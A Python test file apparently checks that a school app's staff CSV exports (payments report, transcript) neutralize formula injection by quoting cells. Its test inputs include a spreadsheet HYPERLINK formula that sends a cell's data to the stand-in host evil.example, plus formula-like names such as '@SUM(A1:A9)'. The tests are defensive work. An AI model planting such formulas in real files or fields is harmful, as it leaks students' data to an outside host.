"""Staff CSV exports pass no formula through (issue 10): text a student or staff typed
that starts like a formula reaches the spreadsheet as text; the app's numbers stay
numbers. Each export is tested: the payments report and the transcript."""

from __future__ import annotations

import csv
import io

import pytest

from tests.support.events import claims
from tests.support.world import STAFF, World

IN_WINDOW = "2027-01-15T10:00:00-08:00"
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"Open your grades")'


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


@pytest.fixture
def world(api, clock) -> World:
    clock(IN_WINDOW)
    return World(api).build("2026-27")


def test_the_payments_report_neutralizes_a_school_name_that_looks_like_a_formula(api, world):
    # Given a school staff named like a formula, and a student's prior-year request for
    # it, approved (a request must name an existing school: a student's free text is a
    # 422, tests/integration/test_fees_staff.py)
    alice = world.student("alice")
    school = world.ok("POST", "/schools", body={"name": HYPERLINK})
    request = world.ok(
        "POST",
        "/students/me/prior-year-requests",
        as_=alice,
        body={
            "school_year": "2025-26",
            "school_id": school["school_id"],
            "high_school_course": "Welding 1",
            "teacher": "Ms. Rivera",
            "reason": "I did not know about the program.",
        },
    )
    decision = {
        "student_id": alice.student_id,
        "school_year": "2025-26",
        "approve": True,
        "request_id": request["request_id"],
    }
    world.ok("POST", "/prior-year-requests/decisions", body={"decisions": [decision]})
    # When staff download that year's payments report as CSV
    status, text = api("GET", "/payments/report/csv?school_year=2025-26", as_=STAFF)
    # Then the school cell is the formula's text behind a quote, and the counts are numbers
    assert status == 200
    rows = _rows(text)
    cells = [value for row in rows for value in row.values()]
    assert HYPERLINK not in cells and "'" + HYPERLINK in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
    totals = [row for row in rows if row["school"] == "All schools"]
    assert len(totals) == 1 and totals[0]["due"] == "1"


def test_the_transcript_neutralizes_names_and_class_text(api, grades_api, world):
    # Given a student whose legal name is a formula, graded A and paid, in a class whose
    # names staff typed starting like formulas
    offering = world.ok(
        "POST",
        "/offerings",
        body={
            "school_year": "2026-27",
            "teacher": "Ms. Rivera",
            "college_course_id": world.course,
            "school_id": world.school_x,
            "high_school_course": "@SUM(A1:A9)",
        },
    )["offering_id"]
    mallory = world.student("mallory", last_name=HYPERLINK, first_name="-2+3")
    world.ok("POST", "/students/me/registrations", as_=mallory, body={"offering_ids": [offering]})
    world.ok(
        "POST",
        f"/students/{mallory.student_id}/payments",
        body={
            "kind": "check",
            "school_year": "2026-27",
            "instrument_number": "8",
            "amount_cents": 5000,
            "received_on": "2027-01-10",
            "payer_name": "Pat",
        },
    )
    teacher = claims("teacher-x", groups=["school"], school_id=world.school_x)
    status, answer = grades_api(
        "PUT",
        f"/schools/{world.school_x}/grades",
        as_=teacher,
        body={
            "school_year": "2026-27",
            "grades": [{"sers_id": mallory.sers_id, "offering_id": offering, "grade": "A"}],
        },
    )
    assert status == 200, answer
    # When staff download the transcript
    status, text = grades_api("GET", "/grades/transcript?school_year=2026-27", as_=STAFF)
    # Then every typed cell that starts like a formula is text behind a quote
    assert status == 200
    [row] = _rows(text)
    assert row["legal_last_name"] == "'" + HYPERLINK
    assert row["legal_first_name"] == "'-2+3"
    assert row["high_school_course"] == "'@SUM(A1:A9)"
    # And what the app wrote stays as it was: the grade, and the credits as a number
    assert row["grade"] == "A" and float(row["credits"]) == 5


def test_the_payments_reports_list_of_who_owes_neutralizes_a_name_like_a_formula(api, world):
    # Given a student who owes, whose legal name starts like a formula
    mallory = world.student("mallory", first_name="@SUM(A1:A9)", last_name=HYPERLINK)
    world.ok(
        "POST",
        "/students/me/registrations",
        as_=mallory,
        body={"offering_ids": [world.offering_x]},
    )
    # When staff download the payments report as CSV
    status, text = api("GET", "/payments/report/csv?school_year=2026-27", as_=STAFF)
    # Then the student's row is there, the name behind a quote, the amount a number
    assert status == 200
    (row,) = [r for r in _rows(text) if r["sers_id"] == mallory.sers_id]
    assert row["student"] == f"'@SUM(A1:A9) {HYPERLINK}"
    assert row["amount_due"] == "50.00"
